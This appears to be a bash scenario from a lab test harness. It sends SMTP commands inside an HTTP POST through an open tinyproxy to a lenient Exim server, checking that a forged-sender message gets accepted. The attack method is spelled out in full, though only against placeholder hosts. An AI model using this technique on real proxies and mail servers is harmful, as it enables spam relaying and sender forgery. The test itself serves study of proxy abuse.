# shellcheck shell=bash
about "POST trick through an open tinyproxy to port 25 of a patient Exim, which takes the message after some lines it does not know."
proxy_net
tinyproxy
target_exim "smtp_enforce_sync = false" "smtp_max_unknown_commands = 20" \
	"smtp_max_synprot_errors = 20"
capture_start
{
	printf '%s\n' "RSET" "HELO mail.client.example" "MAIL FROM:<sales@client.example>" \
		"RCPT TO:<user@third.example>" DATA
	letter "$RUN/letter" "Sales <sales@client.example>" user@third.example "Your enquiry"
	printf '%s\n' "letter $RUN/letter" QUIT
} >"$RUN/script"
probe_from 198.51.100.66 "$PROXY2:8888" "$DEST:25" http-post post -m "$RUN/script"
wait_taken 1
capture_stop
